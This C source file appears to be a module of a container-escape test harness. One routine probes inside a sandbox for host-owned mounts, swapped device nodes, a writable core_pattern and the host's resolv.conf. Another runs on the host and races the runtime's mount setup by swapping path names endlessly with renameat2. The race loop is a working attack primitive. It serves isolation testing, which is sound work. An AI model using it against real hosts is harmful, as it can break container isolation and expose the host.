// Rows 2, 7, 8 and 9: names swapped under the entry's hands, and what the entry then shows.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/vfs.h>
#include <unistd.h>

#include "payload.h"

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

// What lies at the places that the entry makes: each is made by it, or is the tree's own and does no harm. CANARY: a
// file name that only a directory of the host's holds.
static int sight(int count, char **arguments) {
  const char *canary = count > 0 ? arguments[0] : "canary";
  static const struct {
    const char *path;
    long type;
  } places[] = {{"/proc", 0x9fa0}, {"/sys", 0x62656572}, {"/dev", 0x01021994}, {"/run", 0x01021994}, {"/tmp", 0}, {"/etc", 0}};
  for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
    struct statfs file_system;
    char path[300];
    bool is_made = statfs(places[i].path, &file_system) == 0 && (long)file_system.f_type == places[i].type;
    printf("%s %s\n", places[i].path, is_made ? "made" : "own");
    snprintf(path, sizeof path, "%s/%.200s", places[i].path, canary);
    if (access(path, F_OK) == 0) printf("ESCAPED row 7 %s is the host's\n", places[i].path);
    snprintf(path, sizeof path, "%s/%.200s-written", places[i].path, canary);
    int fd = open(path, O_WRONLY | O_CREAT, 0600);
    if (fd >= 0) close(fd);
  }
  static const struct {
    const char *path;
    unsigned major, minor;
  } devices[] = {{"/dev/null", 1, 3}, {"/dev/zero", 1, 5}, {"/dev/full", 1, 7}, {"/dev/random", 1, 8}, {"/dev/urandom", 1, 9}, {"/dev/tty", 5, 0}};
  for (size_t i = 0; i < sizeof devices / sizeof *devices; i++) {
    struct stat status;
    if (stat(devices[i].path, &status) < 0 || !S_ISCHR(status.st_mode)) continue;
    int fd = open(devices[i].path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
    if (fd >= 0 && status.st_rdev != makedev(devices[i].major, devices[i].minor)) printf("ESCAPED row 7 %s is another device\n", devices[i].path);
    if (fd >= 0) close(fd);
  }
  // Row 8: what the tree shows as a procfs or kernel settings is no procfs, or the entry's own.
  struct statfs file_system;
  if (statfs("/proc/sys", &file_system) == 0 && (long)file_system.f_type == 0x9fa0 && access("/proc/sys/kernel/core_pattern", W_OK) == 0)
    printf("ESCAPED row 8 settings of the kernel can be written\n");
  if (strstr(text_of("/etc/resolv.conf"), canary) != NULL) printf("ESCAPED row 9 resolv.conf is a file of the host's\n");
  return 0;
}

// On the host: exchanges pairs of names until it is killed, as fast as it can. DIRECTORY LEFT RIGHT LEFT RIGHT …
static int exchange(int count, char **arguments) {
  if (count < 3) return 2;
  int directory = open(arguments[0], O_RDONLY | O_DIRECTORY);
  puts("up");
  fflush(stdout);
  unsigned random = 1;
  for (;;) {
    random = random * 1103515245u + 12345u;
    int pair = 1 + (int)(random >> 8) % ((count - 1) / 2) * 2;
    syscall(SYS_renameat2, directory, arguments[pair], directory, arguments[pair + 1], RENAME_EXCHANGE);
  }
}

const struct attack sight_attacks[] = {{"sight", sight}, {"exchange", exchange}, {NULL, NULL}};
